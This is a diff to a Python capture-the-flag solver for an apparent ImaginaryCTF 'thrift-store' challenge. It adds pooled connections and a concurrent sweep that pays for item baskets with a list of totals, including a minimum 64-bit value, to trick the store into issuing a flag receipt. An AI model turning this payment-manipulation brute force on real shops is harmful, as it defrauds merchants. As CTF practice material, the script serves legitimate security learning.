@@ -1,30 +1,101 @@
 #!/usr/bin/env python3
 import argparse
 import sys
-from typing import List, Optional
+import time
+import queue
+import threading
+import itertools
+from collections import Counter
+from contextlib import contextmanager
+from concurrent.futures import ThreadPoolExecutor
+from typing import Iterable, List, Optional, Sequence, Tuple
 
 try:
     import thriftpy2
     from thriftpy2.rpc import make_client
-    from thriftpy2.transport import TFramedTransportFactory
+    from thriftpy2.transport import TFramedTransportFactory, TTransportException
     from thriftpy2.thrift import TApplicationException
 except Exception as e:
     print("Missing dependency: thriftpy2. Install with: pip install thriftpy2", file=sys.stderr)
     raise
 
 
-def connect(host: str, port: int):
+def connect(host: str, port: int, timeout: int = 5000):
     store_thrift = thriftpy2.load("store.thrift", module_name="store_thrift")
     client = make_client(
         store_thrift.Store,
         host,
         port,
-        timeout=5000,
+        timeout=timeout,
         trans_factory=TFramedTransportFactory(),
     )
     return client, store_thrift
 
 
+class ClientPool:
+    """N persistent framed connections, health-checked and replaced on failure.
+
+    acquire() hands out a connection for the duration of a with-block. One that
+    sat idle longer than `check_after` seconds is probed first with a cheap
+    getBasket round trip; an application error still proves the link is up,
+    while a transport error (or one raised inside the with-block) gets the
+    connection closed and reopened before it goes back to the pool.
+    """
+
+    def __init__(self, host: str, port: int, size: int = 4, timeout: int = 5000, check_after: float = 10.0):
+        self.host, self.port, self.timeout = host, port, timeout
+        self.check_after = check_after
+        self.reconnects = 0
+        self._idle: "queue.Queue" = queue.Queue()
+        for _ in range(size):
+            self._idle.put((self._open(), time.monotonic()))
+
+    def _open(self):
+        client, _ = connect(self.host, self.port, self.timeout)
+        return client
+
+    def _reopen(self, client):
+        try:
+            client.close()
+        except Exception:
+            pass
+        self.reconnects += 1
+        return self._open()
+
+    def healthy(self, client) -> bool:
+        try:
+            client.getBasket("")
+        except TApplicationException:
+            pass
+        except Exception:
+            return False
+        return True
+
+    @contextmanager
+    def acquire(self):
+        client, last_used = self._idle.get()
+        try:
+            if time.monotonic() - last_used > self.check_after and not self.healthy(client):
+                client = self._reopen(client)
+            yield client
+        except (TTransportException, OSError):
+            client = self._reopen(client)
+            raise
+        finally:
+            self._idle.put((client, time.monotonic()))
+
+    def close(self) -> None:
+        while not self._idle.empty():
+            client, _ = self._idle.get_nowait()
+            client.close()
+
+    def __enter__(self):
+        return self
+
+    def __exit__(self, *exc):
+        self.close()
+
+
 def list_inventory(client) -> None:
     try:
         items = client.getInventory()
@@ -89,17 +160,91 @@ def attempt_buy_flag(client, slugs: List[str], totals: List[int]) -> Optional[st
     return None
 
 
+class SweepResults:
+    """Thread-safe tally of sweep outcomes."""
+
+    def __init__(self):
+        self._lock = threading.Lock()
+        self.receipts: List[Tuple[Tuple[str, ...], int, str]] = []
+        self.errors: Counter = Counter()
+        self.attempts = 0
+
+    def add(self, slugs: Tuple[str, ...], total: int, receipt: Optional[str], error: Optional[str]) -> None:
+        with self._lock:
+            self.attempts += 1
+            if error is not None:
+                self.errors[error] += 1
+            elif isinstance(receipt, str):
+                self.receipts.append((slugs, total, receipt))
+
+    def summary(self) -> str:
+        lines = [f"{self.attempts} attempts, {len(self.receipts)} receipts"]
+        for slugs, total, receipt in self.receipts:
+            lines.append(f"  {','.join(slugs)} total={total}: {receipt}")
+        for error, n in self.errors.most_common(10):
+            lines.append(f"  {n:>5} x {error}")
+        return "\n".join(lines)
+
+
+def try_combination(pool: ClientPool, slugs: Sequence[str], total: int) -> Tuple[Optional[str], Optional[str]]:
+    """Fresh basket, add `slugs`, pay `total`. Returns (receipt, error)."""
+    try:
+        with pool.acquire() as client:
+            basket = client.createBasket()
+            for slug in slugs:
+                client.addToBasket(basket, slug)
+            return client.pay(basket, total), None
+    except Exception as e:
+        return None, f"{type(e).__name__}: {e}"
+
+
+def sweep(
+    pool: ClientPool,
+    slug_sets: Iterable[Sequence[str]],
+    totals: Sequence[int],
+    parallel: int = 4,
+    stop_on_receipt: bool = True,
+) -> SweepResults:
+    """Try every (slug set, total) on its own basket, `parallel` at a time."""
+    results = SweepResults()
+    done = threading.Event()
+    window = threading.BoundedSemaphore(parallel * 2)
+
+    def job(slugs: Tuple[str, ...], total: int) -> None:
+        try:
+            if not done.is_set():
+                receipt, error = try_combination(pool, slugs, total)
+                results.add(slugs, total, receipt, error)
+                if stop_on_receipt and isinstance(receipt, str):
+                    done.set()
+        finally:
+            window.release()
+
+    with ThreadPoolExecutor(max_workers=parallel) as ex:
+        for slugs, total in itertools.product(slug_sets, totals):
+            # bounded queue: combinations are generated as workers free up
+            window.acquire()
+            if done.is_set():
+                window.release()
+                break
+            ex.submit(job, tuple(slugs), total)
+    return results
+
+
 def main():
     parser = argparse.ArgumentParser(description="Interact with the thrift-store backend.")
     parser.add_argument("host", nargs="?", default="thrift-store.chal.imaginaryctf.org")
     parser.add_argument("port", nargs="?", type=int, default=9090)
     parser.add_argument("--list", action="store_true", help="List inventory and exit")
     parser.add_argument("--slugs", nargs="*", help="Item slugs to add (default tries flag-like slugs)")
+    parser.add_argument("--sweep", action="store_true", help="Try every slug (and pairs with --pairs) x total concurrently")
+    parser.add_argument("--pairs", action="store_true", help="With --sweep, also try every pair of slugs")
+    parser.add_argument("--pool", type=int, default=4, help="Connections in the pool for --sweep")
+    parser.add_argument("--parallel", type=int, default=None, help="Combinations in flight (default: pool size)")
     args = parser.parse_args()
 
-    client, _ = connect(args.host, args.port)
-
     if args.__dict__["list"]:
+        client, _ = connect(args.host, args.port)
         list_inventory(client)
         return
 
@@ -130,6 +275,18 @@ def main():
         -(1 << 63),
     ]
 
+    if args.sweep:
+        slug_sets = [[s] for s in slugs]
+        if args.pairs:
+            slug_sets += [list(p) for p in itertools.combinations(slugs, 2)]
+        t0 = time.perf_counter()
+        with ClientPool(args.host, args.port, args.pool) as pool:
+            results = sweep(pool, slug_sets, totals, args.parallel or args.pool)
+        print(results.summary())
+        print(f"{time.perf_counter() - t0:.2f}s, {pool.reconnects} reconnects")
+        return
+
+    client, _ = connect(args.host, args.port)
     receipt = attempt_buy_flag(client, slugs, totals)
     if receipt:
         print("Potential flag/receipt:", receipt)